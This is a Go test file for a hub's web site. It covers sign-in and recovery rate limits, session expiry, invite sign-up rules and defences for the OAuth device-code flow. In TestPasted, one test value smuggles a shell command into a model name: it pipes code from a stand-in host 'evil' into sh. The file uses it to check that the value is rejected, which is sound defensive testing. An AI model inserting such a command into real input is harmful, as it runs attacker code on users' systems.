package site

import (
	"encoding/json/v2"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/kith/kith/internal/account"
	"github.com/kith/kith/internal/api"
	"github.com/kith/kith/internal/assert"
	"github.com/kith/kith/internal/credential"
	"github.com/kith/kith/internal/fleet"
)

// inProcess lets a browser use the site without a network, so that it works in false
// time.
func (tn *town) inProcess(from string) func(path string, fields ...string) seen {
	return tn.inProcessAs(from, "")
}

// inProcessAs is inProcess with a cookie.
func (tn *town) inProcessAs(from, cookie string) func(path string, fields ...string) seen {
	return func(path string, fields ...string) seen {
		form := url.Values{}
		for i := 0; i < len(fields); i += 2 {
			form.Set(fields[i], fields[i+1])
		}
		r := httptest.NewRequest("POST", path, strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Cookie", cookie)
		r.RemoteAddr = from + ":1234"
		w := httptest.NewRecorder()
		tn.site.ServeHTTP(w, r)
		return seen{w.Code, w.Header(), w.Body.String()}
	}
}

// TestRefusedSpendsNothing checks that requests for disabled features are refused before
// they count against an address. A page or a program that tries them does not prevent
// others from signing in another way.
func TestRefusedSpendsNothing(t *testing.T) {
	tn := newTown(t, func(c *Config) { c.Base = "http://192.0.2.80" }) // passkeys cannot be bound to an IP address
	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
	tn.site.limits = newLimits()
	one := tn.inProcess("192.0.2.1")
	for range 21 {
		one("/signin/passkey/begin").want(t, 400, "passkeys need a hub with an https")
		one("/signin/passkey", "answer", "x").want(t, 400, "passkeys need a hub with an https")
		one("/recover/mail", "address", "ada@example.org").want(t, 404, "sends no mail")
	}
	one("/recover", "name", "ada", "code", "y", "password", aPassword).want(t, 403, "recovery code is wrong")
	one("/signin", "name", "ada", "password", aPassword).goes(t, "/")
}

// TestSignInLimits checks that guesses are limited by address, and by address and name,
// and that correct passwords work again afterwards.
func TestSignInLimits(t *testing.T) {
	tn := newTown(t, nil)
	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
	synctest.Test(t, func(t *testing.T) {
		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // created in this bubble
		one := tn.inProcess("192.0.2.1")
		for i := range 10 {
			if got := one("/signin", "name", "ada", "password", "wrong"); got.status != 403 {
				t.Fatalf("guess %d: %d", i+1, got.status)
			}
		}
		held := one("/signin", "name", "ada", "password", aPassword)
		if held.status != 429 || held.header.Get("Retry-After") != "30" {
			t.Errorf("the eleventh: %d, Retry-After %q", held.status, held.header.Get("Retry-After"))
		}
		assert.Equal(t, one("/signin", "name", "bob", "password", "wrong").status, 403, "another name")
		tn.inProcess("192.0.2.2")("/signin", "name", "ada", "password", aPassword).goes(t, "/")
		time.Sleep(30 * time.Second)
		one("/signin", "name", "ada", "password", aPassword).goes(t, "/")

		// By address, with any name; for IPv6, by network. Recoveries are counted
		// separately, in the same way.
		guess := tn.inProcess("[2001:db8::1]")
		for i := range 20 {
			guess("/signin", "name", strings.Repeat("x", i+1), "password", "wrong").want(t, 403)
		}
		if got := tn.inProcess("[2001:db8::2]")("/signin", "name", "nobody", "password", "wrong"); got.status != 429 {
			t.Errorf("from the same network: %d", got.status)
		}
		if got := tn.inProcess("[2001:db8:0:1::1]")("/signin", "name", "someone", "password", "wrong"); got.status != 403 {
			t.Errorf("from another network: %d", got.status)
		}
		for i := range 20 {
			guess("/recover", "name", strings.Repeat("x", i+1), "code", "y", "password", aPassword).want(t, 403)
		}
		if got := guess("/recover", "name", "nobody", "code", "y", "password", aPassword); got.status != 429 {
			t.Errorf("the 21st recovery: %d", got.status)
		}
	})
}

// TestGuessesDoNotLockOut checks that while others guess a member's password, the member
// can sign in with a known browser, recover the account and type device codes. The member
// can also sign in with a new browser if the guesses are from few addresses.
func TestGuessesDoNotLockOut(t *testing.T) {
	tn := newTown(t, nil)
	first := tn.as("ada").post("/account/password", "password", aPassword)
	first.goes(t, "/account")
	known := setCookie(t, first.header, "kith-browser")
	codes := strings.Fields(textOf(t, tn.as("ada").post("/account/codes", "old", aPassword).want(t, 200), "codes"))
	synctest.Test(t, func(t *testing.T) {
		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // created in this bubble
		attacker := tn.inProcess("198.51.100.1")
		every, from := 100*time.Millisecond, 2000
		if testing.Short() {
			every, from = time.Second, 400
		}
		for i := range int(1000 * time.Second / every) {
			if got := attacker("/signin", "name", "ada", "password", "guess"); got.status != 403 && got.status != 429 {
				t.Fatalf("guess %d: %d", i, got.status)
			}
			time.Sleep(every)
		}
		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).goes(t, "/") // a new browser

		// Guesses from many addresses are limited for the name, but only for new
		// browsers.
		passed := 0
		for i := range from {
			if one := tn.inProcess(fmt.Sprintf("203.0.%d.%d", 1+i/200, 1+i%200)); one("/signin", "name", "ada", "password", "guess").status == 403 {
				passed++
			}
		}
		assert.That(t, passed <= 100, passed, "guesses at once for one name")
		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).want(t, 429)
		signed := tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword)
		signed.goes(t, "/")
		tn.inProcessAs("192.0.2.2", known)("/signin", "name", "bob", "password", "wrong").want(t, 403) // like any other browser
		if got := tn.inProcessAs("192.0.2.3", strings.Replace(known, ".", "0.", 1))("/signin", "name", "ada", "password", aPassword); got.status != 429 {
			t.Errorf("with a cookie of one's own making: %d", got.status)
		}
		session := setCookie(t, signed.header, "kith")
		tn.inProcessAs("192.0.2.1", session)("/device", "code", "BCDF-GHJK").want(t, 404)
		tn.inProcess("192.0.2.1")("/recover", "name", "ada", "code", codes[0], "password", aPassword+"!").goes(t, "/account")

		// A new password invalidates the cookie. A known browser has its own limit, not
		// none.
		tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword+"!").want(t, 429)
		fresh := setCookie(t, tn.inProcessAs("192.0.2.1", known)("/recover", "name", "ada", "code", codes[1], "password", aPassword).header, "kith-browser")
		for range 10 {
			tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", "wrong").want(t, 403)
		}
		tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", aPassword).want(t, 429)
		time.Sleep(browserLife)
		for range 10 {
			tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", "guess").want(t, 403)
		}
		tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", aPassword).want(t, 429) // half a year later
	})
}

// session returns the cookie of a browser's session.
func (b *browser) session() *http.Cookie {
	for _, c := range b.client.Jar.Cookies(must1(url.Parse(b.web.URL))) {
		if c.Name == "kith" {
			return c
		}
	}
	return new(http.Cookie)
}

// setCookie returns the cookie with that name from a response, in the form in which a
// browser sends it.
func setCookie(t *testing.T, h http.Header, name string) string {
	t.Helper()
	for _, c := range (&http.Response{Header: h}).Cookies() {
		if c.Name == name {
			if !c.HttpOnly || c.Name == "kith-browser" && c.SameSite != http.SameSiteStrictMode {
				t.Errorf("the cookie %s", c)
			}
			return c.Name + "=" + c.Value
		}
	}
	t.Fatalf("no cookie %s in %v", name, h["Set-Cookie"])
	return ""
}

// TestOneMessage checks that a wrong name, a wrong password and a member without one get the
// same response, and that a disabled member is named so after the right password alone.
func TestOneMessage(t *testing.T) {
	tn := newTown(t, nil)
	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
	tn.as("eve").post("/account/password", "password", aPassword).goes(t, "/account")
	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["eve"].ID, true))
	var first string
	for _, try := range [][2]string{{"ada", "wrong"}, {"nobody", aPassword}, {"bob", aPassword}, {"eve", "wrong"}, {"", ""}, {"a\x00", "x"}, {"ada", strings.Repeat("x", 5000)}, {"аda", aPassword}} { // the last with a Cyrillic а
		got := tn.browser().post("/signin", "name", try[0], "password", try[1]).want(t, 403)
		message := problemIn(got.body)
		if first == "" {
			first = message
		}
		if message != first || got.header.Get("Set-Cookie") != "" {
			t.Errorf("%q: %s, cookie %q", try, message, got.header.Get("Set-Cookie"))
		}
	}
	tn.browser().post("/signin", "name", "Ada", "password", aPassword).goes(t, "/") // as some phones write it
	got := tn.browser().post("/signin", "name", "eve", "password", aPassword).want(t, 403, "this account is disabled")
	assert.Equal(t, got.header.Get("Set-Cookie"), "", "a disabled member is signed in")
}

// TestSignUpKeepsTheInvite checks that a refused sign-up goes on showing who invites and to
// what, and keeps the name and the invite.
func TestSignUpKeepsTheInvite(t *testing.T) {
	p := newIDP(t)
	tn := p.town(newWorld(t), SignUpInvite)
	invite := textOf(t, tn.as("ada").post("/sharing/invite", "uses", "1", "per_day", "5"), "link")
	const from = "<strong>ada</strong> shares their machines with you, within these limits: 5 calls a day."
	kept := func(page seen, name string) {
		t.Helper()
		page.want(t, page.status, from, `<input type="hidden" name="invite" value="`+invite+`"`, ` value="`+name+`"`)
		assert.Lacks(t, page.body, `id="invite"`, "the invite is to be typed again")
	}
	kept(tn.browser().post("/signup", "invite", invite, "name", "bob", "password", aPassword).want(t, 400, "taken", "<h1>You are invited</h1>", "/signin?next=%2Finvite%2F"+api.InviteIn(invite)), "bob")
	kept(tn.browser().post("/signup", "invite", invite, "name", "zoe", "password", "short").want(t, 400), "zoe")
	kept(tn.browser().post("/signup/provider", "invite", invite, "name", "zoe").want(t, 403, "that took too long: start again", `action="/signin/provider"`), "zoe")
	zoe := tn.browser()
	zoe.through(p.at("z", "zoe"), "/signin/provider", "invite", invite).goes(t, "/signup/provider")
	kept(zoe.get("/signup/provider").want(t, 200), "zoe")
	kept(zoe.post("/signup/provider", "invite", invite, "name", "bob").want(t, 400, "taken"), "bob")
	late := tn.browser()
	late.through(p.at("y", "yan"), "/signin/provider", "invite", invite).goes(t, "/signup/provider")
	zoe.post("/signup/provider", "invite", invite, "name", "zoe").want(t, 303)
	assert.Lacks(t, late.get("/signup/provider").want(t, 200).body, "shares their machines", "an invite that is used up")
	wrong := tn.browser().post("/signup", "invite", invite+"x", "name", "zoe", "password", aPassword).want(t, 404, `id="invite"`, "You need an invite")
	assert.Lacks(t, wrong.body, "shares their machines", "an invite that there is not")
}

// If sign-up is closed, an invite does not promise an account.
func TestInviteOnAClosedHub(t *testing.T) {
	ada := newTown(t, func(c *Config) { c.SignUp = SignUpClosed }).as("ada")
	ada.post("/sharing/invite", "uses", "1", "expires", "1d").want(t, 200, "A member of this hub who accepts it can then use", "Sign-up is closed: someone without an account")
}

func TestSignUpRules(t *testing.T) {
	w := newWorld(t)
	invite := good[api.Invite](w, "ada", "POST", "/api/invites", `{"uses":1}`).Code
	closed := townOf(t, w, func(c *Config) { c.SignUp = SignUpClosed })
	invited := townOf(t, w, func(c *Config) { c.SignUp = "" })
	open := townOf(t, w, nil)
	closed.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", invite).want(t, 403, "sign-up is closed")
	noForm := closed.browser().get("/invite/"+invite).want(t, 200, "Sign-up is closed", "sign in</a> and accept")
	if strings.Contains(noForm.body, `action="/signup"`) || strings.Contains(noForm.body, "Sign up to") {
		t.Error("an invite has a form that always refuses")
	}
	invited.browser().post("/signup", "name", "zoe", "password", aPassword).want(t, 403, "an invite is needed")
	invited.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", credential.Mint(credential.InviteCode, "home").Reveal()).want(t, 404)
	invited.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", "x").want(t, 404)
	for _, bad := range []string{"", "short", "zzzzzzzzzzzzz", strings.Repeat("long", 300), "zoe12345678"[:8]} {
		invited.browser().post("/signup", "name", "zoe", "password", bad, "invite", invite).want(t, 400)
	}
	for _, bad := range []string{"", " ", "a/b", "<b>", strings.Repeat("x", 65)} {
		invited.browser().post("/signup", "name", bad, "password", aPassword, "invite", invite).want(t, 400)
	}
	zoe := invited.browser()
	if page := zoe.get("/invite/"+invite).want(t, 200, "You are invited"); strings.Contains(page.body, `href="/signup"`) {
		t.Error("the page of an invite has a link to the form that asks for one")
	}
	if page := zoe.post("/signup", "name", "zoe", "password", "short", "invite", invite).want(t, 400, "You are invited", "at least 10 characters"); strings.Contains(page.body, `href="/signup"`) {
		t.Error("the page of a refused sign-up by an invite links to the sign-up without it")
	}
	zoe.post("/signup", "name", "zoe", "password", aPassword, "invite", invited.web.URL+"/invite/"+invite).goes(t, "/")
	zoe.get("/").want(t, 200, "ada shares their machines with you.")
	zoe.get("/access/for-you").want(t, 200, "<th scope=\"row\">ada</th>")
	invited.browser().post("/signup", "name", "yan", "password", aPassword, "invite", invite).goes(t, "/invite/"+invite) // which says that it is used up
	if _, err := w.db.MemberByName(t.Context(), "yan"); err == nil {
		t.Error("a member is left of a sign-up that failed")
	}
	open.browser().post("/signup", "name", "xia", "password", aPassword).goes(t, "/")
	open.browser().post("/signup", "name", "xia", "password", aPassword).want(t, 400, "is taken: choose another one")
	for _, alike := range []string{"XIA", "хіа"} {
		open.browser().post("/signup", "name", alike, "password", aPassword).want(t, 400, "looks like one that is taken")
	}
	open.browser().post("/signup", "name", "Kith Support", "password", aPassword).want(t, 400, "for the service and its operator")
}

func TestSessionsEnd(t *testing.T) { onEachStore(t, testSessionsEnd) }

func testSessionsEnd(t *testing.T, tn *town) {
	one := tn.as("ada")
	one.post("/account/password", "password", aPassword).goes(t, "/account")
	two, three := tn.browser(), tn.browser()
	for _, b := range []*browser{two, three} {
		b.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
	}
	page := one.get("/sessions").want(t, 200, "this browser", "password")
	ids := regexp.MustCompile(`name="session" value="([^"]+)"`).FindAllStringSubmatch(page.body, -1)
	assert.Require(t, len(ids) == 3, len(ids), "sessions")
	token := two.session().Value
	assert.Lacks(t, page.body, token, "a session's token is on a page")
	one.post("/sessions/end", "session", ids[1][1]).goes(t, "/sessions")
	two.get("/account").goes(t, "/signin?next=%2Faccount")
	three.get("/account").want(t, 200)
	one.post("/sessions/end", "session", ids[1][1]).want(t, 404)
	one.post("/sessions/end", "all", "yes").goes(t, "/sessions")
	three.get("/account").goes(t, "/signin?next=%2Faccount")

	// The token of one sign-in is void after the next sign-in, and after the sign-out.
	before := one.session().Value
	one.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
	if after := one.session().Value; after == before {
		t.Error("the token stayed as it was over a sign-in")
	}
	one.get("/account").want(t, 200)
	stale := tn.browser()
	stale.header.Set("Cookie", "kith="+before)
	stale.get("/account").goes(t, "/signin?next=%2Faccount")
	one.post("/signout").goes(t, "/signin")
	one.get("/account").goes(t, "/signin?next=%2Faccount")

	// Disabling a member ends all sessions at once, and a new password ends all others.
	two.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
	three.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
	two.post("/account/password", "old", "wrong", "password", "another good one").want(t, 403, "current password")
	two.post("/account/password", "old", aPassword, "password", "another good one").goes(t, "/account")
	two.get("/account").want(t, 200)
	three.get("/account").goes(t, "/signin?next=%2Faccount")
	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["ada"].ID, true))
	two.get("/account").goes(t, "/signin?next=%2Faccount")
}

// TestSessionsAge checks that a session ends 12 hours after its last use, and after two
// weeks in any case.
func TestSessionsAge(t *testing.T) {
	tn := newTown(t, nil)
	link := tn.link(tn.members["ada"].ID)
	synctest.Test(t, func(t *testing.T) {
		tn.site.limits = newLimits()
		get := func(cookie string) int {
			r := httptest.NewRequest("GET", "/account", nil)
			r.Header.Set("Cookie", cookie)
			w := httptest.NewRecorder()
			tn.site.ServeHTTP(w, r)
			return w.Code
		}
		time.Sleep(time.Until(time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC))) // the link was created in real time
		check(t, tn.db.CreateLink(t.Context(), account.Link{Hash: must1(credential.Parse(strings.TrimPrefix(link, "/welcome/"))).Hash(), MemberID: tn.members["ada"].ID, Created: time.Now(), Expires: time.Now().Add(time.Hour)}))
		in := tn.inProcess("192.0.2.1")("/welcome", "link", strings.TrimPrefix(link, "/welcome/"))
		in.goes(t, "/")
		cookie := setCookie(t, in.header, "kith")
		for range 27 {
			time.Sleep(sessionIdle - time.Second)
			if got := get(cookie); got != 200 {
				t.Fatalf("seen in time: %d", got)
			}
		}
		time.Sleep(sessionIdle)
		assert.Equal(t, get(cookie), 303, "after two weeks")
	})
}

func TestRecovery(t *testing.T) { onEachStore(t, testRecovery) }

func testRecovery(t *testing.T, tn *town) {
	ada := tn.as("ada")
	ada.post("/account/password", "password", aPassword).goes(t, "/account")
	ada.post("/account/codes").want(t, 403)
	page := ada.post("/account/codes", "old", aPassword).want(t, 200, "recovery codes")
	codes := strings.Fields(textOf(t, page, "codes"))
	assert.Require(t, len(codes) == recoveryCodes, "made", codes)
	if again := ada.get("/account").want(t, 200, "You have 8 left"); strings.Contains(again.body, codes[0]) {
		t.Error("the codes are shown again")
	}
	b := tn.browser()
	b.post("/recover", "name", "bob", "code", codes[0], "password", "a new password").want(t, 403)
	b.post("/recover", "name", "ada", "code", "aaaa-bbbb-cccc-dddd", "password", "a new password").want(t, 403)
	b.post("/recover", "name", "ada", "code", strings.ToUpper(codes[0]), "password", "a new password").goes(t, "/account")
	b.get("/account").want(t, 200, "You have 7 left")
	ada.get("/account").goes(t, "/signin?next=%2Faccount")
	tn.browser().post("/recover", "name", "ada", "code", codes[0], "password", "a newer password").want(t, 403)
	tn.browser().post("/signin", "name", "ada", "password", aPassword).want(t, 403)
	tn.browser().post("/signin", "name", "ada", "password", "a new password").goes(t, "/")
	bob := tn.as("bob")
	bob.post("/account/password", "password", aPassword).goes(t, "/account")
	code := strings.Fields(textOf(t, bob.post("/account/codes", "old", aPassword), "codes"))[0]
	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["bob"].ID, true))
	b.post("/recover", "name", "bob", "code", codes[1], "password", "a new password").want(t, 403, "the name or the recovery code is wrong")
	b.post("/recover", "name", "bob", "code", code, "password", "a new password").want(t, 403, "this account is disabled")
	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["bob"].ID, false))
	tn.browser().post("/recover", "name", "BOB", "code", code, "password", "a new password").goes(t, "/account") // the refusal did not use it
}

// device is a device that requests approval.
type device struct {
	*town
	code, user string
}

func (tn *town) ask4(form ...string) *device {
	tn.t.Helper()
	var got struct {
		DeviceCode string `json:"device_code"`
		UserCode   string `json:"user_code"`
		Address    string `json:"verification_uri"`
		ExpiresIn  int    `json:"expires_in"`
		Interval   int    `json:"interval"`
	}
	answer := tn.browser().post("/device/code", append(form, "client_id", "kith")...).want(tn.t, 200)
	check(tn.t, json.Unmarshal([]byte(answer.body), &got))
	if got.ExpiresIn != 600 || got.Interval != 2 || got.Address != tn.web.URL+"/device" {
		tn.t.Errorf("told %s", answer.body)
	}
	return &device{tn, got.DeviceCode, got.UserCode}
}

// poll polls once, as if the interval had passed, and returns the error's code, or the
// answer.
func (d *device) poll() (string, granted) {
	d.t.Helper()
	d.site.limits.polls.Give(d.pollKey(), time.Now())
	answer := d.browser().post("/device/token", "client_id", "kith", "grant_type", grantType, "device_code", d.code)
	var refused struct {
		Error string `json:"error"`
	}
	var got granted
	if answer.status == 200 {
		check(d.t, json.Unmarshal([]byte(answer.body), &got))
	} else {
		check(d.t, json.Unmarshal([]byte(answer.body), &refused))
	}
	return refused.Error, got
}

func (d *device) pollKey() string {
	hash := must1(credential.Parse(d.code)).Hash()
	return string(hash[:])
}

func (d *device) want(code string) granted {
	d.t.Helper()
	got, answer := d.poll()
	assert.Require(d.t, got == code, "polled", got, code)
	return answer
}

// TestMadeUpCodes checks that unknown codes with valid checksums are looked up a limited
// number of times per address, and that known codes do not count.
func TestMadeUpCodes(t *testing.T) {
	tn := newTown(t, nil)
	tn.site.limits.polls.Every = 0
	made := func(kind credential.Kind) string { return credential.Mint(kind, "home").Reveal() }
	for name, c := range map[string]struct {
		ask     func(code string) seen
		kind    credential.Kind
		refused string
	}{
		"device codes": {func(code string) seen {
			return tn.browser().post("/device/token", "grant_type", grantType, "device_code", code)
		}, credential.DeviceCode, "slow_down"},
		"links":   {func(code string) seen { return tn.browser().get("/welcome/" + code) }, credential.LinkCode, "too many attempts"},
		"invites": {func(code string) seen { return tn.browser().get("/invite/" + code) }, credential.InviteCode, "too many attempts"},
	} {
		tn.site.limits.codes = &throttle{Every: time.Hour, Burst: 30} // independent of the test's speed
		d := tn.ask4("scope", "machine", "name", "laptop")
		for range 50 {
			d.want("authorization_pending")
		}
		refused := 0
		for range 40 {
			if got := c.ask(made(c.kind)); strings.Contains(got.body, c.refused) {
				refused++
			}
		}
		assert.Equal(t, refused, 10, "of 40 made-up", name, "were refused")
	}
}

func TestDeviceSignIn(t *testing.T) { onEachStore(t, testDeviceSignIn) }

func testDeviceSignIn(t *testing.T, tn *town) {
	tn.site.limits.polls.Every = time.Hour // independent of the test's speed: only d.poll is in time
	ada, bob := tn.as("ada"), tn.as("bob")
	d := tn.ask4("scope", "machine", "name", "laptop")
	d.want("authorization_pending")
	if got := tn.browser().post("/device/token", "grant_type", grantType, "device_code", d.code); !strings.Contains(got.body, "slow_down") {
		t.Errorf("polled at once: %s", got.body)
	}
	// The page shows which device asks, and decides nothing.
	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404, "first enter the code that the device shows at <code>/device</code>")
	ada.post("/device", "code", strings.ToLower(strings.ReplaceAll(d.user, "-", " "))).want(t, 200, "laptop", "127.0.0.1", "Go-http-client", d.user, "Does your device show this code")
	d.want("authorization_pending")
	ada.post("/device/decide", "code", d.user).want(t, 400)
	ada.post("/device/decide", "decision", "approve").want(t, 404)
	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 200, "Approved")
	for _, who := range []*browser{ada, bob} {
		who.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404)
	}

	// Of many concurrent polls one gets the secret.
	var won atomic.Int64
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			tn.site.limits.polls.Give(d.pollKey(), time.Now())
			form := url.Values{"grant_type": {grantType}, "device_code": {d.code}}
			resp, err := http.PostForm(tn.web.URL+"/device/token", form)
			if err != nil {
				t.Error(err)
				return
			}
			defer resp.Body.Close()
			text, _ := io.ReadAll(resp.Body)
			if resp.StatusCode == 200 && strings.Contains(string(text), `"access_token":"kithm_home_`) && strings.Contains(string(text), `"name":"laptop"`) {
				won.Add(1)
			}
		})
	}
	all.Wait()
	if won.Load() == 0 {
		d.want("") // all of them came too soon
		won.Add(1)
	}
	assert.Equal(t, won.Load(), 1, "were told the secret")
	d.want("invalid_grant")
	machines := must1(tn.db.Machines(t.Context(), tn.members["ada"].ID))
	assert.That(t, len(machines) == 2 && machines[1].Name == "laptop", "machines", machines)
	// If the name is taken, a word is appended.
	again := tn.ask4("scope", "machine", "name", "laptop")
	ada.post("/device", "code", again.user).want(t, 200)
	ada.post("/device/decide", "code", again.user, "decision", "approve").want(t, 200)
	if got := again.want(""); !strings.HasPrefix(got.Name, "laptop-") || got.Member != "ada" || !strings.HasPrefix(got.Secret, "kithm_") {
		t.Errorf("told %+v", got)
	}

	// The request is denied. The machine's name mixes two scripts, so no page shows it.
	denied := tn.ask4("scope", "machine", "name", "lаptоp")
	if page := bob.post("/device", "code", denied.user).want(t, 200, "machine"); strings.Contains(page.body, "lаptоp") {
		t.Error("a name that no machine may have is shown")
	}
	bob.post("/device/decide", "code", denied.user, "decision", "deny").want(t, 200, "Denied")
	denied.want("access_denied")
	// A request for a key.
	key := tn.ask4("scope", "key", "name", "editor", "reach", "own", "per_day", "1500")
	bob.post("/device", "code", key.user).want(t, 200, "an API key called <strong>editor</strong> that reaches your machines, at most 1,500 calls a day")
	bob.post("/device/decide", "code", key.user, "decision", "approve").want(t, 200, "shown there")
	got := key.want("")
	stored, member, err := tn.db.KeyByHash(t.Context(), must1(credential.Parse(got.Secret)).Hash())
	if err != nil || member.Name != "bob" || stored.Reach != account.ReachOwn || stored.PerDay != 1500 || stored.Name != "editor" || stored.ID != got.ID {
		t.Errorf("made %+v of %s, %v", stored, member.Name, err)
	}
	// If the member is disabled in between, the device gets nothing.
	late := tn.ask4("scope", "key", "name", "late", "per_day", "0") // as kith keys create sends it
	bob.post("/device", "code", late.user).want(t, 200)
	bob.post("/device/decide", "code", late.user, "decision", "approve").want(t, 200)
	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["bob"].ID, true))
	late.want("invalid_grant")
	// Invalid requests.
	for _, form := range [][]string{{"client_id", "kith", "scope", "all"}, {"scope", "machine"}, {"client_id", "kith", "scope", "key", "name", "<b>"}, {"client_id", "kith", "scope", "key", "name", "x", "reach", "universe"}, {"client_id", "kith", "scope", "key", "name", "x", "per_day", "-1"}, {"client_id", "kith", "scope", "key", "name", "x", "per_day", "many"}} {
		tn.browser().post("/device/code", form...).want(t, 400, `"error":"invalid_`)
	}
	tn.browser().post("/device/token", "grant_type", "password").want(t, 400, "unsupported_grant_type")
	tn.browser().post("/device/token", "grant_type", grantType, "device_code", "x").want(t, 400, "invalid_grant")
	tn.browser().get("/device/code").want(t, 405)
}

// TestDevicePhishing checks that a link with a code does not fill it in, and that a typed
// code approves neither in another session nor another code.
func TestDevicePhishing(t *testing.T) {
	tn := newTown(t, nil)
	ada, others := tn.as("ada"), tn.as("ada")
	d, mine := tn.ask4("scope", "machine", "name", "evil"), tn.ask4("scope", "machine", "name", "mine")
	for _, path := range []string{"/device?code=" + d.user, "/device?user_code=" + d.user} {
		if page := ada.get(path).want(t, 200, "Continue"); strings.Contains(page.body, `value="`+d.user) {
			t.Errorf("%s fills the code in", path)
		}
	}
	ada.post("/device", "code", "WRNG-CODE").want(t, 404, `value="WRNG-CODE"`) // to correct it
	ada.post("/device", "code", mine.user).want(t, 200)
	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404)
	others.post("/device/decide", "code", mine.user, "decision", "approve").want(t, 404)
	d.want("authorization_pending")
	mine.want("authorization_pending")
	ada.post("/device/decide", "code", mine.user, "decision", "approve").want(t, 200)
	mine.want("")
}

// TestDeviceGuesses checks that wrong codes are limited, by member and by address, and
// that correct ones do not count.
func TestDeviceGuesses(t *testing.T) {
	tn := newTown(t, nil)
	ada := tn.as("ada")
	d := tn.ask4("scope", "machine", "name", "laptop")
	for range 20 {
		ada.post("/device", "code", d.user).want(t, 200)
	}
	for range 5 {
		ada.post("/device", "code", credential.UserCode()).want(t, 404)
	}
	for range 30 { // refused requests do not count for the address
		ada.post("/device", "code", d.user).want(t, 429)
	}
	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 429)
	tn.as("bob").post("/device", "code", d.user).want(t, 200)
}

// TestDeviceExpires checks that a request cannot be approved after ten minutes, and that
// the page shows that.
func TestDeviceExpires(t *testing.T) {
	tn := newTown(t, nil)
	code, now := credential.Mint(credential.DeviceCode, "home"), time.Now().UTC()
	g := account.Grant{ID: "grt_1", Hash: code.Hash(), UserCode: "BCDF-GHJK", Kind: account.GrantMachine, Name: "old", Reach: account.ReachAll, Created: now.Add(-grantLife - time.Second), Expires: now.Add(-time.Second)}
	check(t, tn.db.CreateGrant(t.Context(), g))
	tn.as("ada").post("/device", "code", "BCDF-GHJK").want(t, 404)
	(&device{tn, code.Reveal(), g.UserCode}).want("expired_token")
}

func TestTestKey(t *testing.T) {
	tn := newTown(t, nil)
	ada := tn.as("ada")
	mine, other := credential.Mint(credential.APIKey, "home"), credential.Mint(credential.APIKey, "home")
	tn.keys = map[string]string{mine.Reveal(): "ada", other.Reveal(): "bob"}
	ada.post("/applications/test", "secret", mine.Reveal(), "model", "tiny").want(t, 200, "It works", "tiny answered", "Hello there.")
	for _, secret := range []string{other.Reveal(), credential.Mint(credential.APIKey, "home").Reveal(), credential.Mint(credential.MachineKey, "home").Reveal(), "x", ""} {
		got := ada.post("/applications/test", "secret", secret, "model", "tiny").want(t, 400)
		if secret != "" && secret != "x" && strings.Contains(got.body, secret) {
			t.Error("the page shows a key that is not ada's")
		}
	}
}

// TestPasted checks that a value in lines to paste cannot end a quoted string.
func TestPasted(t *testing.T) {
	for id, want := range map[fleet.ModelID]bool{"llama3:8b": true, "org/Model-1.5_q4": true, "": false, "a b": false, "x'; curl evil | sh; '": false, `a"b`: false, "a$(b)": false, "a\\b": false, "é": false} {
		if pastes(id) != want {
			t.Errorf("%q may be pasted: %v", id, !want)
		}
	}
	tn := newTown(t, nil)
	evil := fleet.ModelID("x'; curl evil | sh; '")
	secret := credential.Mint(credential.APIKey, "home").Reveal()
	tn.keys = map[string]string{secret: "ada"}
	page := tn.as("ada").post("/applications/test", "secret", secret, "model", string(evil)).want(t, 200)
	assert.Lacks(t, page.body[strings.Index(page.body, "Paste into"):], "evil", "the lines to paste hold")
}

func TestAddressOf(t *testing.T) {
	for remote, want := range map[string]string{
		"192.0.2.1:5": "192.0.2.1", "127.0.0.1:5": "127.0.0.1", "[2001:db8::1]:0": "2001:db8::1",
		"[::ffff:192.0.2.1]:5": "192.0.2.1", "[fe80::1%eth0]:5": "fe80::1", "@": "unknown",
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.RemoteAddr = remote
		r.Header.Set("X-Forwarded-For", "198.51.100.1") // only the hub reads this header
		assert.Equal(t, addressOf(r), want, remote)
	}
}
